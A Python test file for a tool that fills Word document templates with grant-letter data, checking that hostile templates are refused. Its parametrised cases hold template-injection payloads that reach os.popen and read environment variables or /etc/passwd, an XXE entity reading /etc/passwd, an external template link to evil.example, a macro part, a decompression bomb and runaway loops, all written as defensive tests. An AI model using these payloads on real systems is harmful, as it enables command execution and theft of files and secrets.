"""Forms of one's own: their fields, and hostile ones, which run nothing, read nothing and end in a message."""

import os
import zipfile
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any

import docx
import pytest

from fundcalc.base.errors import SheetError
from fundcalc.documents import forms
from fundcalc.documents.form_process import UnusableFormError, fill_in
from tests.documents.rounds import run, sample_round, text_of

LETTER: dict[str, object] = {
    "organisation": "示例公司", "total": "1,600,000.00", "needed": [{"number": "1", "article": "第九条", "text": "章程"}],
}  # fmt: skip


def form(*paragraphs: str, header: str = "") -> bytes:
    document: Any = docx.Document()
    for text in paragraphs:
        document.add_paragraph(text)
    if header:
        document.sections[0].header.paragraphs[0].text = header
    content = BytesIO()
    document.save(content)
    return content.getvalue()


def paragraphs(content: bytes) -> list[str]:
    return [paragraph.text for paragraph in docx.Document(BytesIO(content)).paragraphs]


def changed(content: bytes, name: str, change: Callable[[bytes], bytes]) -> bytes:
    """A document with one of its parts changed, or added."""
    made = BytesIO()
    with zipfile.ZipFile(BytesIO(content)) as parts, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as other:
        for part in parts.namelist():
            if part != name:
                other.writestr(part, parts.read(part))
        other.writestr(name, change(parts.read(name) if name in parts.namelist() else b""))
    return made.getvalue()


def test_fields_and_lists_are_filled_in() -> None:
    made = form(
        "{{ organisation }}：共 {{ total }} 元", "{%p for item in needed %}", "□ {{ item.text }}", "{%p endfor %}"
    )
    (document,) = fill_in(made, [LETTER], in_one=True)
    assert paragraphs(document) == ["示例公司：共 1,600,000.00 元", "□ 章程"]


def test_text_of_a_workbook_is_text_whatever_it_says() -> None:
    hostile = "{{ 7*7 }}<w:br/>&amp;]]>{% for x in y %}"
    (document,) = fill_in(form("{{ organisation }}"), [{"organisation": hostile}], in_one=True)
    assert paragraphs(document) == [hostile]


def test_letters_of_one_form_stand_in_one_document() -> None:
    letters = [{"organisation": name} for name in ("甲", "乙", "丙")]
    (document,) = fill_in(form("{{ organisation }}", header="某市科技局"), letters, in_one=True)
    assert [text.strip() for text in paragraphs(document) if text.strip()] == ["甲", "乙", "丙"]
    assert len(fill_in(form("{{ organisation }}"), letters, in_one=False)) == 3
    with pytest.raises(UnusableFormError, match="-o FOLDER"):
        fill_in(form("{{ organisation }}", header="{{ organisation }}"), letters, in_one=True)
    assert len(fill_in(form("{{ organisation }}", header="{{ organisation }}"), letters, in_one=False)) == 3


@pytest.mark.parametrize(
    "field",
    [
        "{{ organisation.__class__.__mro__[1].__subclasses__() }}",
        "{{ ''.__class__ }}{{ total }}",
        "{{ self.__init__.__globals__ }}{{ total }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}{{ total }}",
        "{{ lipsum.__globals__['os'].environ }}{{ total }}",
        "{{ needed.append(1) }}",
        "{{ '{0.__class__}'.format(total) }}",
        "{{ total|attr('__class__') }}",
        "{% include '/etc/passwd' %}{{ total }}",
        "{% import 'os' as os %}{{ total }}",
        "{% extends '/etc/passwd' %}{{ total }}",
        "{{ range(10**9)|list }}{{ total }}",
        "{{ organisaton }}", "{{ total", "{% for x in %}", "{{ total.a.b }}", "{{ 1/0 }}{{ total }}", "no field at all",
        "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}{{ total }}",
    ],
)  # fmt: skip
def test_a_hostile_or_faulty_field_is_refused_and_runs_nothing(field: str) -> None:
    said = ""
    try:
        said = "".join(paragraphs(fill_in(form(field), [LETTER], in_one=True)[0]))
    except UnusableFormError as refusal:
        said = str(refusal)
    except RecursionError:
        pass  # the process tells it as taking too much
    assert "class '" not in said
    assert "uid=" not in said
    assert "root:" not in said


@pytest.mark.parametrize(
    ("name", "change", "reason"),
    [
        (
            "word/_rels/settings.xml.rels",
            lambda _old: (
                b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" '
                b'TargetMode="External"/></Relationships>'
            ),
            "another place",
        ),
        ("word/vbaProject.bin", lambda _old: b"x", "macros"),
        ("word/media/bomb.bin", lambda _old: b"0" * 110_000_000, "larger than any form"),
    ],
)  # fmt: skip
def test_a_form_that_leads_outside_or_is_a_bomb_is_refused(
    name: str, change: Callable[[bytes], bytes], reason: str
) -> None:
    with pytest.raises(UnusableFormError, match=reason):
        fill_in(changed(form("{{ total }}"), name, change), [LETTER], in_one=True)


def test_an_entity_reads_no_file() -> None:
    doctype = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'

    def with_entity(old: bytes) -> bytes:
        return doctype + old.partition(b"?>")[2].replace(b"{{ total }}", b"{{ total }}&e;")

    said = ""
    try:
        made = changed(form("{{ total }}"), "word/document.xml", with_entity)
        said = "".join(paragraphs(fill_in(made, [LETTER], in_one=True)[0]))
    except UnusableFormError as refusal:
        said = str(refusal)
    assert "root:" not in said


@pytest.mark.parametrize("content", [b"", b"no zip", b"PK\x03\x04broken", b"\xd0\xcf\x11\xe0"])
def test_what_is_no_document_is_refused(tmp_path: Path, content: bytes) -> None:
    path = tmp_path / "form.docx"
    path.write_bytes(content)
    with pytest.raises(UnusableFormError, match="not a Word document"):
        fill_in(content, [LETTER], in_one=True)
    with pytest.raises(SheetError, match="cannot be read"):
        forms.fill_in(tmp_path / "none.docx", [LETTER], in_one=True)


def test_a_process_of_its_own_fills_in_a_form(tmp_path: Path) -> None:
    (tmp_path / "form.docx").write_bytes(form("{{ organisation }}", "{{ total }}"))
    (document,) = forms.fill_in(tmp_path / "form.docx", [{"organisation": "甲\x07\u202e", "total": 1}], in_one=True)
    assert paragraphs(document) == ["甲\ufffd\ufffd", "1"]


@pytest.mark.slow
def test_the_command_fills_in_a_form(tmp_path: Path) -> None:
    path, _policy = sample_round(tmp_path, "xinzhou-2024")
    (tmp_path / "form.docx").write_bytes(form("{{ organisation }}", "{{ outcome }}", "{{ total_in_capitals }}"))
    given = ("book", "report", "--kind", "letters", "--round", path, "--policy", "xinzhou-2024", "--lang", "zh")
    code, said = run(*given, "--form", tmp_path / "form.docx", "-o", tmp_path / "l.docx")
    assert code == 0, said
    assert "人民币贰拾万元整" in text_of(tmp_path / "l.docx")
    (tmp_path / "bad.docx").write_bytes(form("{{ organisaton }}"))
    code, said = run(*given, "--form", tmp_path / "bad.docx", "-o", tmp_path / "m.docx", "--json")
    assert (code, "organisaton" in said, "organisation_code" in said) == (2, True, True)
    assert not (tmp_path / "m.docx").exists()


@pytest.mark.slow
@pytest.mark.parametrize(
    "field",
    [
        "{% for a in range(99999) %}{% for b in range(99999) %}{% for c in range(99999) %}{% endfor %}{% endfor %}{% endfor %}",
        "{{ 'a' * 10**10 }}",
        "{{ 9**(9**9) }}",
        "{{ 'a'.center(10**10) }}",
        "{% set x = namespace(v='aaaaaaaaaa') %}{% for i in range(60) %}{% set x.v = x.v ~ x.v %}{% endfor %}{{ x.v }}",
    ],
)  # fmt: skip
def test_a_form_that_never_ends_is_ended(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, field: str) -> None:
    monkeypatch.setattr(forms, "SECONDS", 3)
    path = tmp_path / "form.docx"
    path.write_bytes(form(field, "{{ total }}"))
    before = os.times().children_user
    with pytest.raises(SheetError):
        forms.fill_in(path, [LETTER], in_one=True)
    assert os.times().children_user - before < 20
